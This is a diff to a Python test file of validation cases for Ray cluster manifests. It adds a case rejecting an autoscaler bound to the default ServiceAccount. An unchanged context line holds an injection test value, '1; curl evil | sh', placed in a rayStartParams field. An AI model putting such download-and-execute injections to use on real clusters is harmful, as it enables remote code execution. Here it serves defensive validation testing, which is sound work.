@@ -95,6 +95,15 @@ CLUSTER_CASES: list[tuple[str, Mutation, str, str]] = [
         "not supported for small group",
     ),
     (
+        "the autoscaler's Role bound to the default ServiceAccount",
+        lambda m: (
+            m["spec"].update(enableInTreeAutoscaling=True),
+            head(m)["template"]["spec"].update(serviceAccountName="default"),
+        ),
+        "spec.headGroupSpec.template.spec.serviceAccountName",
+        "bound to the namespace's `default`",
+    ),
+    (
         "a command in rayStartParams",
         lambda m: head(m).update(rayStartParams={"num-cpus": "1; curl evil | sh"}),
         "spec.headGroupSpec.rayStartParams.num-cpus",
